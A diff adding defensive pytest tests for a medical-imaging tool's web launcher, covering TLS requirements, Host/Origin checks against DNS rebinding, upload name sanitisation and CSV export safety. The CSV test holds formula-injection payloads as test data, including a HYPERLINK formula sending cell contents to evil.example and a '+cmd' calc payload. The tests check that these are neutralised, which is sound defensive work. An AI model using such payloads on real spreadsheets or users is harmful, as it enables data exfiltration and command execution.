@@ -56,9 +56,36 @@ def test_serving_a_network_needs_users(tmp_path):
     with pytest.raises(InputError, match="anyone on the network"):
         check_serving(WebOptions(host="192.168.1.20"))
     users = auth.add_user(tmp_path / "users", "alice", "pw")
-    assert list(check_serving(WebOptions(host="0.0.0.0", users_file=users))) == ["alice"]
+    with pytest.raises(InputError, match="without TLS would send passwords"):
+        check_serving(WebOptions(host="0.0.0.0", users_file=users))
+    assert list(check_serving(WebOptions(host="0.0.0.0", users_file=users, behind_tls_proxy=True))) == ["alice"]
+    assert list(check_serving(WebOptions(host="127.0.0.1", users_file=users))) == ["alice"]
     with pytest.raises(InputError, match="go together"):
         check_serving(WebOptions(tls_cert=tmp_path / "cert.pem"))
+
+
+def test_hosts_and_origins_a_launcher_accepts():
+    """What a browser, a reverse proxy and a DNS-rebinding page send (proxy: nginx's ``$http_host`` or ``$host``)."""
+    from types import SimpleNamespace
+
+    from TACEResponseLib.frontend.web.guards import HostRules
+
+    rules = HostRules.for_address("127.0.0.1", ["tace.example.org"], trust_forwarded=True)
+
+    def problems(host: str, origin: str | None = None, forwarded: str | None = None):
+        headers = {"Host": host, **({"Origin": origin} if origin else {}),
+                   **({"X-Forwarded-Host": forwarded} if forwarded else {})}
+        request = SimpleNamespace(headers=headers)
+        return rules.host_problem(request), rules.origin_problem(request)
+
+    assert problems("127.0.0.1:8080", "http://127.0.0.1:8080") == (None, None)
+    assert problems("localhost:8080") == (None, None)  # no Origin: not a browser's cross-site request
+    assert problems("127.0.0.1:8080", None, "tace.example.org:8443") == (None, None)
+    assert problems("127.0.0.1:8080", "https://tace.example.org:8443", "tace.example.org") == (None, None)
+    assert problems("rebound.example:8080", "http://rebound.example:8080")[0] is not None
+    assert problems("127.0.0.1:8080", "http://evil.example")[1] is not None
+    assert problems("127.0.0.1:8080", "http://127.0.0.1:9999")[1] is not None  # another port named: another origin
+    assert problems("127.0.0.1:8080", "null")[1] is not None
 
 
 # --- the launcher over HTTP (no session process: sessions are put in by hand) ----------------------
@@ -74,7 +101,7 @@ def _launcher(tmp_path, **options) -> Launcher:
     users = auth.add_user(tmp_path / "users", "alice", "pw-a")
     auth.add_user(users, "bob", "pw-b")
     limits = uploads.UploadLimits(max_file_bytes=1000, max_session_bytes=1500, max_files=3)
-    return Launcher(WebOptions(host="0.0.0.0", users_file=users, limits=limits, work_root=tmp_path, **options))
+    return Launcher(WebOptions(host="127.0.0.1", users_file=users, limits=limits, work_root=tmp_path, **options))
 
 
 def test_login_cookie_and_sessions_of_other_users(tmp_path):
@@ -165,7 +192,9 @@ def test_upload_rules_and_names():
     assert uploads.upload_problem("tumour.seg.nrrd", "segmentation") is None
     assert "not an accepted image" in uploads.upload_problem("report.pdf", "image")
     assert uploads.upload_problem("IM0001", "image", bytes(128) + b"DICM") is None
-    assert "not an accepted segmentation" in uploads.upload_problem("IM0001", "segmentation", bytes(128) + b"DICM")
+    assert uploads.upload_problem("IM0001", "segmentation", bytes(128) + b"DICM") is None  # a DICOM SEG
+    assert uploads.upload_problem("seg.dcm", "segmentation") is None
+    assert "not an accepted segmentation" in uploads.upload_problem("notes.txt", "segmentation", b"plain text")
     assert uploads.stored_name("../../etc/passwd") == "passwd"
     assert uploads.stored_name("C:\\scans\\my ct.nii.gz") == "my_ct.nii.gz"
     assert uploads.stored_name(".hidden.nrrd") == "hidden.nrrd"
@@ -188,6 +217,56 @@ def test_upload_batch_reads_volumes_and_refuses_mixtures(tmp_path, axial_case):
     empty.mkdir()
     with pytest.raises(InputError, match="no file"):
         uploads.read_upload_batch(empty)
+
+
+def test_session_settings_come_on_standard_input_and_set_the_web_reading_rules(tmp_path, axial_case):
+    """What a session process does first (session_setup): settings from stdin (a key may begin with "-"),
+    uploads read as self-contained files under the per-image and per-session decoding limits."""
+    import argparse
+    import io
+    import json
+
+    from TACEResponseLib.frontend.web import session_setup
+    from TACEResponseLib.imaging import image_headers
+    from TACEResponseLib.imaging.volume_io import read_volume, write_volume
+
+    volume = axial_case.phases["arterial"]  # 2.25 MB decoded
+    limits = uploads.UploadLimits(max_image_bytes=3 * 2**20, max_decoded_bytes=8 * 2**20)
+    folder = tmp_path / "session"
+    argv = ["session.py", "--port", "0", session_setup.SETTINGS_FLAG]
+    saved = image_headers._DEFAULT
+    try:
+        session_setup.prepare_session_process(argv, io.StringIO(session_setup.settings_line(folder, "-key", limits)))
+        parser = argparse.ArgumentParser()
+        for name in ("--port", "--session-dir", "--authKey", "--upload-limits"):
+            parser.add_argument(name)
+        args = parser.parse_args(argv[1:])
+        assert (args.session_dir, args.authKey) == (str(folder), "-key")
+        assert json.loads(args.upload_limits)["max_file_bytes"] == limits.max_file_bytes
+        # a file of the command line (--image): a detached header with its data beside it is read, and held
+        header = write_volume(volume, tmp_path / "d.nhdr")
+        assert read_volume(header).array.shape == volume.array.shape
+        budget = image_headers.current_rules().budget
+        assert budget.held_bytes == volume.array.nbytes
+        batch = folder / "uploads" / "image" / "b1"
+        batch.mkdir(parents=True)
+        for name in ("a.nrrd", "b.nii.gz", "c.mha", "e.nii"):
+            write_volume(volume, batch / name)
+        with pytest.raises(InputError) as error:
+            uploads.read_upload_batch(batch)  # 4 × 2.25 MB > 8 MB per session
+        assert "allowed per session" in str(error.value) and str(folder) not in str(error.value)
+        (batch / "c.mha").unlink()
+        assert len(uploads.read_upload_batch(batch)) == 3  # they replace the start case: 6.75 MB held
+        assert budget.held_bytes == 3 * volume.array.nbytes
+        (batch / "d.nhdr").write_bytes(header.read_bytes())
+        with pytest.raises(InputError, match="d.nhdr: a detached header"):
+            uploads.read_upload_batch(batch)
+    finally:
+        image_headers.set_default_rules(saved)
+    # what the page may show of an error: no place on the server
+    shown = session_setup.client_text(f"{folder}/runs/r1/ct.nrrd: unreadable; bundle /srv/models/x/: missing; "
+                                      "/etc/passwd; and/or", folder)
+    assert shown == "runs/r1/ct.nrrd: unreadable; bundle x: missing; passwd; and/or"
 
 
 # --- what the page shows ----------------------------------------------------------------------------
@@ -214,6 +293,29 @@ def test_result_page_and_csv_download(tmp_path):
         rows = list(csv.DictReader(handle))
     assert [r["predicted"] for r in rows] == ["PR", "PD"] and rows[1]["tumour"] == "Tumour #2"
     assert download_file("json", result, tmp_path).read_text() == (tmp_path / "result.json").read_text()
+
+
+def test_csv_download_neutralises_cells_a_spreadsheet_would_run(tmp_path):
+    from TACEResponseLib.core.files import spreadsheet_safe
+    from TACEResponseLib.frontend.web.results import download_file
+    from TACEResponseLib.prediction.results import PredictionResult, TumourPrediction
+
+    classes = ["CR", "PR", "SD", "PD"]
+    # a case named after an uploaded file, a segment named in an uploaded .seg.nrrd
+    tumour = TumourPrediction("Segment_1", "@SUM(A1:A9)", classes, [0.1, 0.6, 0.2, 0.1], "PR", 0.7, [], [],
+                              volume_ml=21.4)
+    result = PredictionResult('=HYPERLINK("http://evil.example/?"&A1,"open")', "demo", "0" * 64, True, "SYNTHETIC",
+                              "cpu", [tumour])
+    result.save_json(tmp_path / "result.json")
+    with open(download_file("csv", result, tmp_path), newline="") as handle:
+        cells = [cell for row in csv.reader(handle) for cell in row]
+    assert cells, "empty CSV"
+    dangerous = [cell for cell in cells if cell[:1] in ("=", "+", "@", "\t", "\r")
+                 or (cell.startswith("-") and spreadsheet_safe(cell) != cell)]
+    assert not dangerous, dangerous
+    assert "'=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")" in cells and "'@SUM(A1:A9)" in cells
+    assert [spreadsheet_safe(v) for v in ("-1.5", -2, "+cmd|' /C calc'!A0", "-x", "text")] == \
+        ["-1.5", -2, "'+cmd|' /C calc'!A0", "'-x", "text"]
 
 
 def test_result_page_shows_the_patient_and_greys_tumours_not_assessed():
@@ -257,6 +359,19 @@ def test_web_command_refuses_anonymous_network_serving_and_missing_files(capsys,
     assert "anyone on the network" in capsys.readouterr().err
     assert main(["web", "--image", str(tmp_path / "missing_ct.nrrd")]) == 2
     assert "missing_ct.nrrd: file or folder does not exist" in capsys.readouterr().err
+
+
+def test_web_command_on_a_port_in_use_is_one_error(capsys, tmp_path, monkeypatch):
+    import socket
+
+    monkeypatch.setenv("TMPDIR", str(tmp_path))
+    with socket.socket() as taken:
+        taken.bind(("127.0.0.1", 0))
+        taken.listen()
+        port = taken.getsockname()[1]
+        assert main(["web", "--port", str(port)]) == 2
+    error = capsys.readouterr().err.strip().splitlines()
+    assert len(error) == 1 and f"cannot listen on 127.0.0.1:{port}" in error[0], error
 
 
 def test_web_command_adds_users_from_standard_input(tmp_path, monkeypatch, capsys):
